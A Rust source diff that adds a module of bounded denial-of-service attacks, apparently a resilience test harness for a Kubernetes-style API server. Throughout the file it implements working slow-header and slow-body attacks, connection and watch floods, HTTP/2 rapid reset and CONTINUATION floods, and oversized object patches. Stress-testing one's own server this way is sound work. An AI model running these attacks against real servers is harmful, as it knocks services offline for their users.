@@ -1,0 +1,224 @@
+//! The attacks. Each is bounded in count and time, and keeps what it opened until it is dropped.
+
+use std::time::Duration;
+
+use anyhow::Result;
+use bytes::Bytes;
+use futures::future::BoxFuture;
+use futures::stream::{FuturesUnordered, StreamExt};
+use http::Request;
+use http_body_util::Full;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::task::JoinSet;
+use tokio::time::{Instant, sleep, timeout};
+
+use super::frames::{self, CONTINUATION, END_STREAM_AND_HEADERS, GET, HEADERS, PREFACE, RST_STREAM};
+use crate::api_level::Endpoint;
+
+/// Where the objects are.
+pub const CONFIGMAPS: &str = "/api/v1/namespaces/default/configmaps";
+const BLOBS: &str = "/apis/example.org/v1/namespaces/default/blobs";
+
+/// How many large configmaps there are, and their size.
+pub const LARGE: usize = 30;
+const LARGE_BYTES: usize = 900_000;
+
+/// How long an attack goes on, beside the time that it takes to begin.
+const TIME: Duration = Duration::from_secs(10);
+/// How many handshakes are under way at once.
+const AT_ONCE: usize = 32;
+/// How long opening connections may take at most.
+const OPENING: Duration = Duration::from_secs(60);
+
+/// The server, as an attacker sees it.
+pub struct Target {
+    pub endpoint: Endpoint,
+}
+
+/// What an attack opened, for as long as it is kept.
+pub struct Wave {
+    pub count: usize,
+    _kept: Vec<Box<dyn Send>>,
+}
+
+/// A configmap that is about as large as one may be.
+pub fn large_configmap(name: &str) -> String {
+    format!(r#"{{"metadata":{{"name":"{name}"}},"data":{{"x":"{}"}}}}"#, "x".repeat(LARGE_BYTES))
+}
+
+/// Opens up to so many connections with these first bytes, at most for a while, and keeps them.
+async fn open(target: &Target, count: usize, first: &str) -> Result<Wave> {
+    let mut kept: Vec<Box<dyn Send>> = Vec::new();
+    let one = || -> BoxFuture<'_, Result<Box<dyn Send>>> {
+        Box::pin(async move {
+            let mut stream = frames::connect(&target.endpoint, b"http/1.1").await?;
+            stream.write_all(first.as_bytes()).await?;
+            Ok(Box::new(stream) as Box<dyn Send>)
+        })
+    };
+    let mut opening: FuturesUnordered<_> = (0..AT_ONCE.min(count)).map(|_| one()).collect();
+    let mut begun = opening.len();
+    let end = Instant::now() + OPENING;
+    while Instant::now() < end
+        && let Some(opened) = opening.next().await
+    {
+        // A connection that is refused or cut is what the server is there for.
+        kept.extend(opened.ok());
+        if begun < count {
+            begun += 1;
+            opening.push(one());
+        }
+    }
+    sleep(TIME).await;
+    Ok(Wave { count: kept.len(), _kept: kept })
+}
+
+fn get(path: &str) -> String {
+    format!("GET {path} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer alice\r\n\r\n")
+}
+
+/// 1,000 heads of which a byte comes now and then.
+pub async fn slow_heads(target: &Target) -> Result<Wave> {
+    let mut streams = Vec::new();
+    for _ in 0..1000 {
+        let Ok(mut stream) = frames::connect(&target.endpoint, b"http/1.1").await else { continue };
+        let _ = stream.write_all(b"GET / HTTP/1.1\r\nhost: a\r\nx: ").await;
+        streams.push(stream);
+    }
+    let end = Instant::now() + TIME;
+    while Instant::now() < end {
+        for stream in &mut streams {
+            let _ = stream.write_all(b"y").await;
+        }
+        sleep(Duration::from_secs(1)).await;
+    }
+    Ok(Wave { count: streams.len(), _kept: vec![Box::new(streams)] })
+}
+
+/// 205 POSTs of reviews of which one byte comes.
+pub async fn slow_bodies(target: &Target) -> Result<Wave> {
+    let path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
+    let head = format!(
+        "POST {path} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer alice\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{{"
+    );
+    open(target, 205, &head).await
+}
+
+/// 200 lists of large objects that nobody reads.
+pub async fn stalled_lists(target: &Target) -> Result<Wave> {
+    open(target, 200, &get(CONFIGMAPS)).await
+}
+
+/// 200 watches of large objects, from before they were made, that nobody reads.
+pub async fn stalled_watches(target: &Target) -> Result<Wave> {
+    open(target, 200, &get(&format!("{CONFIGMAPS}?watch=1&resourceVersion=1"))).await
+}
+
+/// 10,000 connections that say nothing.
+pub async fn idle_connections(target: &Target) -> Result<Wave> {
+    open(target, 10_000, "").await
+}
+
+/// 24 connections that open 250 watches each: more than one user may have.
+pub async fn watch_flood(target: &Target) -> Result<Wave> {
+    let mut drivers = JoinSet::new();
+    let mut watches = Vec::new();
+    for _ in 0..24 {
+        let Ok(mut sender) = frames::http2(&target.endpoint, &mut drivers).await else { continue };
+        let uri = format!(
+            "https://{}{CONFIGMAPS}?watch=1&fieldSelector=metadata.name%3Dhealthy",
+            target.endpoint.address
+        );
+        let mut asked = FuturesUnordered::new();
+        for _ in 0..250 {
+            let request = Request::get(&uri).header("authorization", "Bearer alice");
+            asked.push(sender.send_request(request.body(Full::new(Bytes::new()))?));
+        }
+        while let Some(answer) = asked.next().await {
+            watches.extend(answer.ok().filter(|answer| answer.status().is_success()));
+        }
+    }
+    sleep(TIME).await;
+    Ok(Wave { count: watches.len(), _kept: vec![Box::new(watches), Box::new(drivers)] })
+}
+
+/// Writes what `next` gives, over and over, on ten connections that are opened again when they are cut.
+async fn flood(target: &Target, most: usize, begin: &[u8], next: impl Fn(usize) -> Vec<u8>) -> Result<Wave> {
+    let end = Instant::now() + TIME;
+    let one = || async {
+        let mut written = 0;
+        while Instant::now() < end && written < most {
+            let Ok(mut stream) = frames::connect(&target.endpoint, b"h2").await else { continue };
+            let mut is_open =
+                stream.write_all(PREFACE).await.is_ok() && stream.write_all(begin).await.is_ok();
+            let mut of_connection = 0;
+            let mut heard = [0; 1 << 12];
+            while is_open && Instant::now() < end && written < most {
+                is_open = timeout(TIME, stream.write_all(&next(of_connection)))
+                    .await
+                    .is_ok_and(|done| done.is_ok());
+                // What the server says is read, so that it can go on.
+                while let Ok(Ok(1..)) = timeout(Duration::ZERO, stream.read(&mut heard)).await {}
+                of_connection += 1;
+                written += 1;
+            }
+        }
+        written
+    };
+    let counts = futures::future::join_all((0..10).map(|_| one())).await;
+    Ok(Wave { count: counts.into_iter().sum(), _kept: Vec::new() })
+}
+
+/// Streams that are opened and reset at once.
+pub async fn rapid_reset(target: &Target) -> Result<Wave> {
+    let pair = |i: usize| {
+        let stream = u32::try_from(2 * i + 1).unwrap_or(1);
+        let mut pair = frames::frame(HEADERS, END_STREAM_AND_HEADERS, stream, GET);
+        pair.extend(frames::frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
+        pair
+    };
+    flood(target, 20_000, b"", pair).await
+}
+
+/// Headers that go on in frame after frame and never end.
+pub async fn continuation_flood(target: &Target) -> Result<Wave> {
+    let begin = frames::frame(HEADERS, 1, 1, GET);
+    // A header of 8 KiB that is not kept: name `a`, and a value of `b`s.
+    let mut header = b"\0\x01a\x7f\x81\x3f".to_vec();
+    header.extend(std::iter::repeat_n(b'b', 127 + 8064 + 1));
+    let more = frames::frame(CONTINUATION, 0, 1, &header[..header.len().min(16_384)]);
+    flood(target, 8_000, &begin, |_| more.clone()).await
+}
+
+/// 16 clients that patch objects to just below the limit of a body, over and over.
+pub async fn large_objects(target: &Target) -> Result<Wave> {
+    let end = Instant::now() + TIME;
+    let one = |i: usize| async move {
+        let mut count = 0;
+        let body = format!(r#"{{"data":"{}"}}"#, "x".repeat(2_900_000));
+        let create =
+            format!(r#"{{"apiVersion":"example.org/v1","kind":"Blob","metadata":{{"name":"b{i}"}}}}"#);
+        let post = request("POST", BLOBS, "application/json", &create);
+        let patch = request("PATCH", &format!("{BLOBS}/b{i}"), "application/merge-patch+json", &body);
+        let Ok(mut stream) = frames::connect(&target.endpoint, b"http/1.1").await else { return 0 };
+        let mut heard = vec![0; 1 << 20];
+        let mut is_open =
+            stream.write_all(post.as_bytes()).await.is_ok() && stream.read(&mut heard).await.is_ok();
+        while is_open && Instant::now() < end {
+            is_open = stream.write_all(patch.as_bytes()).await.is_ok();
+            // The answer is as long as the object, and nobody looks at it.
+            while let Ok(Ok(1..)) = timeout(Duration::from_millis(200), stream.read(&mut heard)).await {}
+            count += 1;
+        }
+        count
+    };
+    let counts = futures::future::join_all((0..16).map(one)).await;
+    Ok(Wave { count: counts.into_iter().sum(), _kept: Vec::new() })
+}
+
+fn request(method: &str, path: &str, media: &str, body: &str) -> String {
+    format!(
+        "{method} {path} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer alice\r\ncontent-type: {media}\r\ncontent-length: {}\r\n\r\n{body}",
+        body.len()
+    )
+}
